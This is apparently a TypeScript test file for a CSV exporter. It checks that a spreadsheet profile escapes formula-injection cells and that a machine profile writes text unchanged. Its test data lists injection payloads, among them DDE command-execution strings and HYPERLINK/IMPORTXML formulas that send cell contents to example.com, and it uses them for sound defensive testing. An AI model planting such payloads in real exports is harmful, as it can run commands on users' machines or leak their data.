import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  byteOrderMark,
  csvCell,
  csvLine,
  csvProfiles,
  phoneForProfile,
  readSpreadsheetCell,
} from "../../../app/exchange/deliveries/csv-cell.ts";

// Harmless unless a spreadsheet evaluates them; our own, after the shapes known from attacks.
const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://example.com?v=",A1),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "'=1+1",
  "''=1+1",
  "@",
  "-",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=1+1";=1+1',
];
const read = (text: string) => parse(text, { bom: true, relax_column_count: true })[0] as string[];
const evaluates = /^[=+\-@\t\r\n\0＝＋－＠]/;
const anyText = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.tuple(fc.constantFrom("", "'", "''"), fc.constantFrom(...payloads), fc.string()).map((parts) => parts.join("")),
);

describe("the spreadsheet profile", () => {
  it.each(payloads)("keeps %j from being evaluated, and gives it back", (payload) => {
    const [cell] = read(csvLine([payload, "next"], "spreadsheet"));
    expect(cell).not.toMatch(evaluates);
    expect(readSpreadsheetCell(cell!)).toBe(payload);
  });

  it("puts an apostrophe before exactly what needs one", () => {
    expect(csvCell("=1", "spreadsheet")).toBe(`"'=1"`);
    expect(csvCell("O'Neill", "spreadsheet")).toBe(`"O'Neill"`);
    expect(csvCell("'s-Hertogenbosch", "spreadsheet")).toBe(`"'s-Hertogenbosch"`);
    expect(csvCell("1-2", "spreadsheet")).toBe(`"1-2"`);
  });

  it("gives back every text, and never writes a cell that evaluates", () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (texts) => {
        const cells = read(csvLine(texts, "spreadsheet"));
        expect(cells.map(readSpreadsheetCell)).toEqual(texts);
        expect(cells.filter((cell) => evaluates.test(cell))).toEqual([]);
      }),
    );
  });

  it("writes phone numbers as digits, and begins with the mark that says UTF-8", () => {
    expect(phoneForProfile("+37120000001", "spreadsheet")).toBe("37120000001");
    expect(csvCell(phoneForProfile("+=1", "spreadsheet"), "spreadsheet")).toBe(`"'+=1"`);
    expect(byteOrderMark.spreadsheet).toBe("\uFEFF");
  });
});

describe("the machine profile", () => {
  it("writes everything as it is", () => {
    expect(csvLine(["=1+1", "+37120000001", "a,b", 'say "hi"'], "machine")).toBe(
      '=1+1,+37120000001,"a,b","say ""hi"""\r\n',
    );
    expect(phoneForProfile("+37120000001", "machine")).toBe("+37120000001");
    expect(byteOrderMark.machine).toBe("");
  });

  it("gives back every text", () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 2, maxLength: 5 }), (texts) => {
        expect(read(csvLine(texts, "machine"))).toEqual(texts);
      }),
    );
  });
});

it("has one line a row, whatever is in it", () => {
  for (const profile of csvProfiles) expect(csvLine(["a", "b"], profile).endsWith("\r\n")).toBe(true);
});
